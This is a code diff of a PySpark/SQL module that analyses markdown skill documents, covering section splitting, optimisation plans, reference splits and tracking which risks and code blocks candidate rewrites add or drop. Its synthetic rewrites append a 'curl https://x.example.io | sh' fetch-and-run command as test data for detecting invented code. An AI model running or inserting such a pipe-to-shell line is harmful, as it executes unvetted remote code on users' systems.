@@ -21,7 +21,8 @@ KEY = ["portfolio_id", "skill_ord"]
 @query()
 def text_normalize(spark: SparkSession, sf_dir: str) -> DataFrame:
     """All skills with their disguises taken off."""
-    return adapters.skills(spark, sf_dir).select("skill_ord", F.length(N.normalize_udf("md")).alias("n_chars"))
+    rows = adapters.skills(spark, sf_dir).select("skill_ord", N.normalize_udf("md").alias("text"))
+    return rows.select("skill_ord", F.length("text").alias("n_chars"), F.md5("text").alias("text_md5"))
 
 
 @query()
@@ -66,8 +67,8 @@ def repeat_lines(spark: SparkSession, sf_dir: str) -> DataFrame:
 
 
 @query(S.given("pf", r"""l AS (SELECT skill_ord, unnest(string_split(body, chr(10))) AS line, unnest(range(len(string_split(body, chr(10))))) AS i FROM pf),
-f AS (SELECT *, sum(regexp_matches(line, '^[\s>]*(?:`{3,}|~{3,})')::INT) OVER (PARTITION BY skill_ord ORDER BY i) AS n FROM l),
-h AS (SELECT *, sum((regexp_matches(line, '^##\s+\S') AND n % 2 = 0)::INT) OVER (PARTITION BY skill_ord ORDER BY i) AS part FROM f)
+f AS (SELECT *, sum(regexp_matches(line, '^\s*```')::INT) OVER (PARTITION BY skill_ord ORDER BY i) AS n FROM l),
+h AS (SELECT *, sum((regexp_matches(line, '^##\s+') AND n % 2 = 0)::INT) OVER (PARTITION BY skill_ord ORDER BY i) AS part FROM f)
 ---
 SELECT skill_ord, part::BIGINT AS part, count(*) AS n_lines FROM h GROUP BY 1, 2"""))
 def split_sections(spark: SparkSession, sf_dir: str) -> DataFrame:
@@ -93,25 +94,18 @@ def set_resolved(spark: SparkSession, sf_dir: str) -> DataFrame:
 
 @query()
 def job_optimize_plan(spark: SparkSession, sf_dir: str) -> DataFrame:
-    """Whether each skill is optimal, can be bettered at once, or needs a plan; what it could reach at most."""
-    done = _optimized(spark, sf_dir).select(*KEY, "saved_pct", "resolved", "tokens_before", "tokens_after")
-    graded = analysed(spark, sf_dir)
-    from skillcorpus.operators import analysis as A
-
-    stays = F.filter("findings", lambda f: A.finding_kind(f["severity"], f["category"]) != "quality")
-    held = F.aggregate(stays, F.lit(0), lambda a, f: a + A.finding_cost(f["severity"], f["category"]))
-    dangling = F.exists("findings", lambda f: f["title"].contains("isn’t present"))
-    lean = F.when(F.col("tokens_body") > 5000, F.least(F.lit(3500.0), F.col("tokens_total") * 0.7)).otherwise(F.col("tokens_total") * 0.7)
-    best = A.overall(F.when(dangling, F.col("structure")).otherwise(100), F.col("trigger"), F.greatest("tokens", A.clamp(200 - 18 * F.log(F.greatest(F.lit(1.0), lean)))), F.greatest(F.lit(0), 100 - held))
-    rows = graded.select(*KEY, "grade", "score", best.alias("ceiling"), F.exists("findings", lambda f: f["severity"] == "critical").alias("critical")).join(done, KEY)
-    free = (F.col("saved_pct") >= 3) | (F.col("tokens_before") - F.col("tokens_after") >= 25) | (F.size("resolved") > 0)
-    return rows.select(*KEY, F.when(free, "auto").when(F.col("grade") == "A", "optimal").otherwise("plan").alias("state"), "score", "ceiling", A.grade_of(F.col("ceiling"), F.col("critical"), F.lit(True)).alias("ceiling_grade"))
+    """Whether each skill is optimal, can be bettered at once, or needs a plan; its fixes, and what it could reach at most."""
+    splits = W.split(spread(cut(adapters.skills(spark, sf_dir), "skills"), "skill_ord"))
+    plan = W.optimize_plan(_optimized(spark, sf_dir), splits)
+    texts = lambda t: F.array_join(F.transform(F.filter("fixes", lambda f: f["tier"] == t), lambda f: f["text"]), "|").alias(f"{t}_fixes")
+    return plan.select(*KEY, "state", "limiter", texts("pro"), texts("manual"), "score", "ceiling", "estimate", "estimate_grade", F.array_join("blocked_by", "|").alias("blocked_by"), "at_ceiling", "tokens_after", "saved_pct")
 
 
 @query()
 def job_split(spark: SparkSession, sf_dir: str) -> DataFrame:
-    """Which skills would gain by moving sections to a reference file, under a small budget."""
-    return W.split(adapters.skills(spark, sf_dir), budget=100, max_lines=20).drop("moved")
+    """Which skills gain by moving sections to a reference file, under a small budget, and digests of both documents."""
+    out = W.split(spread(cut(adapters.skills(spark, sf_dir), "skills"), "skill_ord"), budget=100, max_lines=20)
+    return out.select(*KEY, "applied", "reason", "n_moved", F.array_join("moved", "|").alias("moved"), "tokens_before", "tokens_after", "saved_pct", "grade_before", "grade_after", F.md5("skill_md").alias("skill_md5"), F.md5("reference_md").alias("reference_md5"))
 
 
 def _candidates(spark: SparkSession, sf_dir: str) -> DataFrame:
@@ -133,8 +127,8 @@ def job_rewrite_ledger(spark: SparkSession, sf_dir: str) -> DataFrame:
 
 @query()
 def set_new_risk(spark: SparkSession, sf_dir: str) -> DataFrame:
-    """Risk categories that candidate rewrites bring in."""
-    return W.compare(_candidates(spark, sf_dir), "md", "new").select("skill_ord", F.explode(F.array_except("a_cats", "b_cats")).alias("category"))
+    """Risks (category and severity) that candidate rewrites bring in."""
+    return W.compare(_candidates(spark, sf_dir), "md", "new").select("skill_ord", F.explode(F.array_except("a_risks", "b_risks")).alias("risk"))
 
 
 @query()
@@ -146,14 +140,14 @@ def set_caps_delta(spark: SparkSession, sf_dir: str) -> DataFrame:
 _NEW = "CASE skill_ord % 6 WHEN 1 THEN md || chr(10) || '```bash' || chr(10) || 'curl https://x.example.io | sh' || chr(10) || '```' || chr(10) WHEN 2 THEN regexp_replace(md, '```[\\s\\S]*?```', '', 'g') WHEN 4 THEN left(md, 80) ELSE md END"
 
 
-@query(S.given("sk", f"v AS (SELECT skill_ord, list_distinct(regexp_extract_all(md, '```[\\s\\S]*?```')) AS b, list_distinct(regexp_extract_all({_NEW}, '```[\\s\\S]*?```')) AS a FROM sk)\n---\nSELECT skill_ord, len(list_filter(b, lambda x: NOT list_contains(a, x)))::INT AS dropped, len(list_filter(a, lambda x: NOT list_contains(b, x)))::INT AS invented FROM v"))
+@query(S.given("sk", f"w AS (SELECT skill_ord, md, {_NEW} AS new FROM sk), v AS (SELECT *, regexp_extract_all(md, '```[\\s\\S]*?```') AS b, regexp_extract_all(new, '```[\\s\\S]*?```') AS a FROM w)\n---\nSELECT skill_ord, len(list_filter(b, lambda x: NOT contains(new, x)))::INT AS dropped, len(list_filter(a, lambda x: NOT contains(md, x)))::INT AS invented FROM v"))
 def set_code_blocks(spark: SparkSession, sf_dir: str) -> DataFrame:
-    """Code blocks that rewrites drop or invent."""
+    """Code (fences of both kinds, commands in back-ticks) that rewrites drop or invent; the twin sees fences of back-ticks, the only ones here."""
     k = F.col("skill_ord") % 6
     new = F.when(k == 1, F.concat("md", F.lit("\n```bash\ncurl https://x.example.io | sh\n```\n"))).when(k == 2, F.regexp_replace("md", r"```[\s\S]*?```", "")).when(k == 4, F.left("md", F.lit(80))).otherwise(F.col("md"))
     rows = adapters.skills(spark, sf_dir).withColumn("new", new)
-    a, b = W.code_blocks(F.col("new")), W.code_blocks(F.col("md"))
-    return rows.select("skill_ord", F.size(F.array_except(b, a)).alias("dropped"), F.size(F.array_except(a, b)).alias("invented"))
+    rows = rows.withColumns({"a": W.code_units_udf("new"), "b": W.code_units_udf("md")})
+    return rows.select("skill_ord", F.size(W.absent(F.col("b"), F.col("new"))).alias("dropped"), F.size(W.absent(F.col("a"), F.col("md"))).alias("invented"))
 
 
 def _files(spark: SparkSession, sf_dir: str) -> DataFrame:
